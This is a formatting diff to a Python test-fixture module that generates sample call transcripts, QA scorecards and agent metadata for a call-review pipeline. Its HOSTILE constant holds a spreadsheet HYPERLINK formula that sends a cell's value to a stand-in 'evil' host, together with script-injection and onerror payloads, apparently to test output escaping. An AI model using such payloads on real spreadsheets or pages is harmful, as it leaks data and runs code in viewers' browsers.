@@ -22,7 +22,10 @@ from pipeline.conversation import (
     Turn,
 )
 
-HOSTILE = "=HYPERLINK(\"http://evil/?\"&A1,\"x\")</script><script>window.pwned=1</script><img src=x onerror=pwned=1>\x07"
+HOSTILE = (
+    '=HYPERLINK("http://evil/?"&A1,"x")</script><script>window.pwned=1</script>'
+    "<img src=x onerror=pwned=1>\x07"
+)
 LINES = (
     ("agent", "Thank you for calling Harbor Valley, my name is Jennifer. How can I help you today?"),
     ("customer", "Hi, I was charged twice for the same transfer and nobody has called me back."),
@@ -43,7 +46,11 @@ CRITERIA = (
     ("closing", "offer_more_help", 10.0, False),
     ("closing", "farewell", 5.0, False),
 )
-AGENTS = (("a-101", "Jennifer Moss", "north"), ("a-102", "Omar Siddiqui", "north"), ("a-103", "Zoë Brandt", "south"))
+AGENTS = (
+    ("a-101", "Jennifer Moss", "north"),
+    ("a-102", "Omar Siddiqui", "north"),
+    ("a-103", "Zoë Brandt", "south"),
+)
 RUBRIC = RubricRef("support", "3", "5f2c9d7be1a04c33")
 
 
@@ -57,31 +64,69 @@ def example_conversation(call_id: str, seed: int = 0, *, repeats: int = 1, note:
         label = "negative" if score < -0.3 else "positive" if score > 0.3 else "neutral"
         turns.append(
             Turn(
-                turn=index, role=role, text=text + (f" {note}" if index == 1 else ""), start_s=round(at, 2),
-                end_s=round(at + length, 2), channel=0 if role == "agent" else 1,
-                confidence=round(rng.uniform(0.6, 0.98), 2), sentiment=Sentiment(round(score, 2), label),
-            )  # fmt: skip
+                turn=index,
+                role=role,
+                text=text + (f" {note}" if index == 1 else ""),
+                start_s=round(at, 2),
+                end_s=round(at + length, 2),
+                channel=0 if role == "agent" else 1,
+                confidence=round(rng.uniform(0.6, 0.98), 2),
+                sentiment=Sentiment(round(score, 2), label),
+            )
         )
         at += length + rng.uniform(0.1, 1.5)
     findings = (
-        Finding("risk", "churn", 3, turns[3].start_s, turns[3].end_s, "third time I am explaining", 0.8, "callqa.risk.v1"),
-        Finding("empathy", "apology", 2, turns[2].start_s, turns[2].end_s, "I am sorry about that", None, "callqa.empathy.v1"),
+        Finding(
+            "risk",
+            "churn",
+            3,
+            turns[3].start_s,
+            turns[3].end_s,
+            "third time I am explaining",
+            0.8,
+            "callqa.risk.v1",
+        ),
+        Finding(
+            "empathy",
+            "apology",
+            2,
+            turns[2].start_s,
+            turns[2].end_s,
+            "I am sorry about that",
+            None,
+            "callqa.empathy.v1",
+        ),
         Finding("pii", "account", 2, turns[2].start_s, turns[2].end_s, "[ACCOUNT]", None, "callqa.pii.v1"),
         Finding("silence", "dead_air", None, turns[5].end_s, turns[6].start_s, "", 4.2, "callqa.silence.v1"),
     )
     customer = [t.sentiment.score for t in turns if t.role == "customer" and t.sentiment]
     return Conversation(
         Transcript(
-            call_id=call_id, turns=tuple(turns), language="en", duration_s=round(at + 1, 2),
-            engine=Engine("callqa", "base", "f00d"), channels=2,
+            call_id=call_id,
+            turns=tuple(turns),
+            language="en",
+            duration_s=round(at + 1, 2),
+            engine=Engine("callqa", "base", "f00d"),
+            channels=2,
         ),
         findings=findings,
-        metrics={"talk_ratio": 0.52, "silence_s": 6.5, "overtalk_s": 1.2, "agent_words_per_minute": 151.0, "hold_s": None},
-        sentiment={
-            "customer": RoleSentiment(sum(customer) / len(customer), (customer[0], None, customer[-2], customer[-1]),
-                                      customer[-1] - customer[0], min(customer), 1),
+        metrics={
+            "talk_ratio": 0.52,
+            "silence_s": 6.5,
+            "overtalk_s": 1.2,
+            "agent_words_per_minute": 151.0,
+            "hold_s": None,
         },
-    )  # fmt: skip
+        sentiment={
+            "customer": RoleSentiment(
+                sum(customer) / len(customer),
+                (customer[0], None, customer[-2], customer[-1]),
+                customer[-1] - customer[0],
+                min(customer),
+                1,
+            ),
+        },
+    )
 
 
 def example_scorecard(call_id: str, conversation: Conversation, seed: int = 0) -> Scorecard:
@@ -101,34 +146,54 @@ def example_scorecard(call_id: str, conversation: Conversation, seed: int = 0) -
         failed |= critical and answer == "no"
         sections.setdefault(section, []).append(
             CriterionAnswer(
-                id=name, answer=answer, points=(weight if answer == "yes" else 0.0) if answer in ("yes", "no") else None,
-                max_points=weight, weight=weight, critical=critical,
+                id=name,
+                answer=answer,
+                points=(weight if answer == "yes" else 0.0) if answer in ("yes", "no") else None,
+                max_points=weight,
+                weight=weight,
+                critical=critical,
                 evidence=(quote,) if answer == "yes" else (),
                 searched=Searched("4 phrases", "agent", 0.0, 30.0, 5) if answer == "no" else None,
                 nearest=quote if answer == "no" else None,
-                reason={"yes": "said as required", "no": "none of the phrases was heard", "na": "did not apply",
-                        "undetermined": "recognised too weakly to judge"}[answer],
-            )  # fmt: skip
+                reason={
+                    "yes": "said as required",
+                    "no": "none of the phrases was heard",
+                    "na": "did not apply",
+                    "undetermined": "recognised too weakly to judge",
+                }[answer],
+            )
         )
     raw = 100 * earned / possible if possible else None
     undetermined = any(a.answer == "undetermined" for answers in sections.values() for a in answers)
     final = 0.0 if failed else raw
-    outcome = "fail" if failed else "needs_review" if undetermined else "pass" if (final or 0) >= 75 else "fail"
+    outcome = (
+        "fail" if failed else "needs_review" if undetermined else "pass" if (final or 0) >= 75 else "fail"
+    )
     return Scorecard(
-        call_id=call_id, rubric=RUBRIC, raw_score=raw, final_score=final,
+        call_id=call_id,
+        rubric=RUBRIC,
+        raw_score=raw,
+        final_score=final,
         outcome=outcome if raw is not None else "not_scored",
         sections=tuple(SectionScore(name, None, tuple(answers)) for name, answers in sections.items()),
         autofail_reasons=("identity not verified",) if failed else (),
         review_reasons=("1 answer undetermined",) if undetermined else (),
         pass_mark=75.0,
-    )  # fmt: skip
+    )
 
 
 def example_metadata(call_id: str, index: int = 0) -> CallMetadata:
     """Metadata of one of three agents over six weeks, in a zone that is not UTC."""
     agent_id, agent_name, team = AGENTS[index % len(AGENTS)]
     return CallMetadata(
-        call_id=call_id, client=("acme", "globex")[index % 2], queue="support", team=team, agent_id=agent_id,
-        agent_name=agent_name, direction="inbound", timezone="Asia/Karachi", agent_channel=0,
+        call_id=call_id,
+        client=("acme", "globex")[index % 2],
+        queue="support",
+        team=team,
+        agent_id=agent_id,
+        agent_name=agent_name,
+        direction="inbound",
+        timezone="Asia/Karachi",
+        agent_channel=0,
         started_at=dt.datetime(2026, 10, 5, 4, 0, tzinfo=dt.UTC) + dt.timedelta(hours=11 * index),
-    )  # fmt: skip
+    )
